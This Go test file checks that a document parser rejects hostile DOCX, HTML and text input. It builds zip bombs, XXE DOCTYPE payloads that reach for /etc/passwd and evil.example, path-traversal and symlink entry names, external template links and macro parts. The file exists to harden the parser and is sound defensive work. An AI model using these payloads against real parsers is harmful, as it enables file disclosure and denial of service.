package document_test

import (
	"archive/zip"
	"bytes"
	"compress/flate"
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"io/fs"
	"runtime"
	"strings"
	"testing"
	"time"

	"rectify/content/document"
)

func refused(t *testing.T, name string, src []byte, want error, mention string) {
	t.Helper()
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	start := time.Now()
	defer func() { t.Logf("%s: %v, %d MB", name, time.Since(start), (after.TotalAlloc-before.TotalAlloc)>>20) }()
	d, err := document.Read(context.Background(), name, src)
	runtime.ReadMemStats(&after)
	if !errors.Is(err, want) || d != nil {
		t.Errorf("%s: %v, want %v", name, err, want)
		return
	}
	var e *document.Error
	if !errors.As(err, &e) || !strings.Contains(err.Error(), mention) {
		t.Errorf("%s: %q does not mention %q", name, err, mention)
	}
	if got := after.TotalAlloc - before.TotalAlloc; got > 1<<30 {
		t.Errorf("%s: %d MB were asked for in all", name, got>>20)
	}
}

// T46: bombs.
func TestBombs(t *testing.T) {
	zeros := strings.Repeat("\x00", 1<<20)
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	for _, e := range parts(p(r("x"))) {
		f, err := w.Create(e.name)
		if err != nil {
			t.Fatal(err)
		}
		if e.name != "word/document.xml" {
			_, _ = f.Write([]byte(e.text))
			continue
		}
		_, _ = f.Write([]byte(`<w:document ` + wordNS + `><w:body><w:p><w:r><w:t>`))
		for range 18 {
			_, _ = f.Write([]byte(strings.ReplaceAll(zeros, "\x00", "a")))
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	refused(t, "ratio.docx", b.Bytes(), document.ErrTooLarge, "word/document.xml")

	many := parts(p(r("x")))
	for i := range 100_000 {
		many = append(many, entry{fmt.Sprintf("word/%d.xml", i), ""})
	}
	refused(t, "entries.docx", zipped(t, many...), document.ErrTooLarge, "entries")
	deep := strings.Repeat("<w:sdt>", 10_000)
	refused(t, "levels.docx", zipped(t, parts(deep)...), document.ErrTooDeep, "word/document.xml")
	refused(t, "tables.docx", zipped(t, parts(strings.Repeat("<w:tbl><w:tr><w:tc>", 40))...), document.ErrTooDeep, "table")
	refused(t, "paragraphs.docx", zipped(t, parts(strings.Repeat(p(r("甲")), 52_000))...), document.ErrTooLarge, "")
	refused(t, "attributes.docx", zipped(t, parts(p(`<w:r `+strings.Repeat(`a="1" `, 300)+`/>`))...), document.ErrTooLarge, "attributes")
	refused(t, "file.docx", make([]byte, document.MaxBytes+1), document.ErrTooLarge, "file")
	refused(t, "wide.docx", zipped(t, parts(p(r(strings.Repeat("龘", 6_000_000))))...), document.ErrTooLarge, "word/document.xml") // the bound cuts a character in two
	refused(t, "tabs.txt", []byte(strings.Repeat("甲"+strings.Repeat("\t乙", 99)+"\n", 1100)), document.ErrTooLarge, "cells")
	spans := `<w:tbl>` + strings.Repeat(`<w:tr>`+cell(`<w:gridSpan w:val="9999"/>`, "甲")+`</w:tr>`, 1100) + `</w:tbl>`
	refused(t, "spans.docx", zipped(t, parts(spans)...), document.ErrTooLarge, "cells")
}

// A zip that says its entry is small is not believed.
func TestLyingSizes(t *testing.T) {
	var packed bytes.Buffer
	fw, err := flate.NewWriter(&packed, flate.BestCompression)
	if err != nil {
		t.Fatal(err)
	}
	_, _ = fw.Write([]byte(`<w:document ` + wordNS + `><w:body>` + p(r(strings.Repeat("甲", 100_000)))))
	_ = fw.Close()
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	f, err := w.CreateRaw(&zip.FileHeader{Name: "word/document.xml", Method: zip.Deflate, CompressedSize64: uint64(packed.Len()), UncompressedSize64: 10})
	if err != nil {
		t.Fatal(err)
	}
	_, _ = f.Write(packed.Bytes())
	_ = w.Close()
	refused(t, "lie.docx", b.Bytes(), document.ErrDamaged, "word/document.xml")
}

// T47: entities and DOCTYPE, wherever they stand.
func TestEntities(t *testing.T) {
	for _, doctype := range []string{
		`<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>`, `<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">`,
		`<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/">%p;]>`, `<!DOCTYPE lolz [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]>`,
	} {
		all := parts(p(r("x")))
		all[2].text = doctype + `<w:document ` + wordNS + `><w:body>` + p(r("&e;")) + `</w:body></w:document>`
		refused(t, "entity.docx", zipped(t, all...), document.ErrUnsafe, "doctype")
		all = parts(p(r("x")), entry{"styles.xml", doctype + `<w:styles ` + wordNS + `/>`})
		refused(t, "styles.docx", zipped(t, all...), document.ErrUnsafe, "word/styles.xml")
		d := mustRead(t, "x.html", []byte(doctype+`<html><p>整改通报&e;</p></html>`))
		if got := kept(d); !strings.Contains(got, "整改通报&e;") {
			t.Errorf("%q", got)
		}
	}
	refused(t, "unknown.docx", zipped(t, parts(p(r("&e;")))...), document.ErrDamaged, "word/document.xml")
}

// T48: names.
func TestNames(t *testing.T) {
	for name, mention := range map[string]string{
		"../../x.md": "../../x.md", "/etc/x": "/etc/x", `a\..\b`: "..", "word/../../x": "word/../../x", "C:/x": "C:/x", "word//x": "word//x", "word/document.xml": "duplicate", "WORD/Document.xml": "duplicate",
	} {
		all := append(parts(p(r("x"))), entry{name, "<x/>"})
		refused(t, "names.docx", zipped(t, all...), document.ErrUnsafe, mention)
	}
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	h := &zip.FileHeader{Name: "word/link.xml"}
	h.SetMode(fs.ModeSymlink | 0o777)
	f, err := w.CreateHeader(h)
	if err != nil {
		t.Fatal(err)
	}
	_, _ = f.Write([]byte("/etc/passwd"))
	_ = w.Close()
	src := append(zipped(t, entry{"word/document.xml", "<x/>"}), b.Bytes()...)
	refused(t, "symlink.docx", src, document.ErrUnsafe, "word/link.xml")
	// A relationship that climbs out of the file names an entry that is not there.
	all := parts(p(r("x")))
	all[1].text = strings.ReplaceAll(all[1].text, "word/document.xml", "../../../../etc/passwd")
	refused(t, "target.docx", zipped(t, all...), document.ErrDamaged, "etc/passwd")
}

// T49: what points outside is told and never fetched; macros are refused. The
// package opens no connection: net and os stand in none of its imports.
func TestOutside(t *testing.T) {
	all := parts(p(r("x")))
	all[3].text = `<Relationships xmlns="` + relNS + `"><Relationship Id="a" Type="` + relTypes + `image" Target="http://evil.example/1.png" TargetMode="External"/>` +
		`<Relationship Id="c" Type="` + relTypes + `hyperlink" Target="http://ok.example/" TargetMode="External"/></Relationships>`
	all = append(all, entry{"word/settings.xml", `<w:settings ` + wordNS + `/>`}, entry{"word/_rels/settings.xml.rels",
		`<Relationships xmlns="` + relNS + `"><Relationship Id="b" Type="` + relTypes + `attachedTemplate" Target="file://evil/x.dotm" TargetMode="External"/></Relationships>`})
	d := mustRead(t, "x.docx", zipped(t, all...))
	var told []string
	for _, m := range d.Remarks {
		if m.Code == document.RemarkExternal {
			told = append(told, fmt.Sprint(m.Args...))
		}
	}
	equal(t, told, "http://evil.example/1.png", "file://evil/x.dotm")

	refused(t, "macro.docx", zipped(t, append(parts(p(r("x"))), entry{"word/vbaProject.bin", "x"})...), document.ErrMacros, "vbaProject.bin")
	all = parts(p(r("x")))
	all[0].text = `<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>`
	refused(t, "macro.docm", zipped(t, all...), document.ErrMacros, "word/document.xml")
}

// T50: pages made to be slow, and text that lies.
func TestHostilePages(t *testing.T) {
	refused(t, "tables.html", []byte(strings.Repeat("<table><tr><td>", 20_000)), document.ErrTooDeep, "line 1")
	refused(t, "divs.html", []byte("<html>"+strings.Repeat("<div>\n", 1000)), document.ErrTooDeep, "line")
	refused(t, "long.txt", bytes.Repeat([]byte("a"), 100<<20), document.ErrTooLarge, "file")
	refused(t, "nodes.html", []byte("<html>"+strings.Repeat("<b>a</b>", 70_000)), document.ErrTooLarge, "nodes")
	refused(t, "cells.html", []byte("<table>"+strings.Repeat("<tr><td colspan=9999>a<td>b", 1100)), document.ErrTooLarge, "cells")
	for _, unit := range []string{"<a href=x>", "<b>", "</p>", "<p>", "<select>", "<math><mi>", "<svg><title>", "<!--", "<li>", "<dd>", "<table><td></table>", "&amp", "<br>", "<tr>", "<td>"} {
		src := []byte("<html><body>" + strings.Repeat(unit+"甲", 6_000))
		if _, err := document.Read(context.Background(), "x.html", src); err != nil && !errors.Is(err, document.ErrTooDeep) {
			t.Errorf("%s: %v", unit, err)
		}
	}
}

func TestTruncated(t *testing.T) {
	src := zipped(t, parts(p(r("整改")), lists(`<w:numFmt w:val="decimal"/><w:lvlText w:val="%1."/>`))...)
	for n := 0; n < len(src); n += 7 {
		d, err := document.Read(context.Background(), "x.docx", src[:n])
		if n >= 4 && (err == nil || d != nil) {
			t.Fatalf("cut to %d of %d bytes: read whole", n, len(src))
		}
	}
	for _, body := range []string{`<w:p><w:r><w:t>断`, p(r("x")) + `</w:body></w:document><x/>`, p(`<w:r><w:t>a</w:r></w:t>`)} {
		refused(t, "x.docx", zipped(t, parts(body)...), document.ErrDamaged, "word/document.xml")
	}
	flipped := bytes.Clone(src)
	at := bytes.Index(flipped, []byte("PK\x01\x02"))
	binary.LittleEndian.PutUint32(flipped[at+16:], 1) // the first entry's checksum
	refused(t, "crc.docx", flipped, document.ErrDamaged, "[Content_Types].xml")
	refused(t, "none.docx", zipped(t, entry{"[Content_Types].xml", "<Types/>"}), document.ErrDamaged, "word/document.xml")
}

func TestForeignFormats(t *testing.T) {
	ole := "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + strings.Repeat("\x00", 512)
	wide := func(s string) string { return strings.Join(strings.Split(s, ""), "\x00") }
	for _, x := range []struct{ name, src, kind string }{
		{"a.doc", ole + wide("WordDocument"), "doc"}, {"a.wps", ole + wide("WordDocument"), "wps"}, {"a.xls", ole + wide("Workbook"), "xls"}, {"a.pdf", "%PDF-1.7\n", "pdf"},
		{"a.rtf", `{\rtf1\ansi`, "rtf"}, {"a.doc", `{\rtf1\ansi`, "rtf"}, {"a.png", "\x89PNG\r\n\x1a\n", "image"}, {"a.mht", "MIME-Version: 1.0\r\n", "mhtml"},
		{"a.xml", `<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument/>`, "wordxml"}, {"a.xml", `<?xml version="1.0"?><a/>`, "xml"},
		{"a.odt", "PK\x03\x04" + strings.Repeat("\x00", 26) + "mimetypeapplication/vnd.oasis.opendocument.text", "odt"},
		{"a.xlsx", string(zipped(t, entry{"[Content_Types].xml", "x"}, entry{"xl/workbook.xml", "x"})), "xlsx"}, {"a.ofd", string(zipped(t, entry{"OFD.xml", "x"})), "ofd"},
		{"a.zip", string(zipped(t, entry{"x.txt", "x"})), "zip"},
	} {
		refused(t, x.name, []byte(x.src), document.ErrFormat, x.kind)
	}
	refused(t, "a.docx", []byte(ole+wide("EncryptedPackage")), document.ErrEncrypted, "")
}

func TestContextEnds(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	for name, src := range map[string][]byte{"x.docx": zipped(t, parts(p(r("x")))...), "x.html": []byte("<html>"), "x.txt": []byte("x")} {
		if _, err := document.Read(ctx, name, src); !errors.Is(err, context.Canceled) {
			t.Errorf("%s: %v", name, err)
		}
	}
}
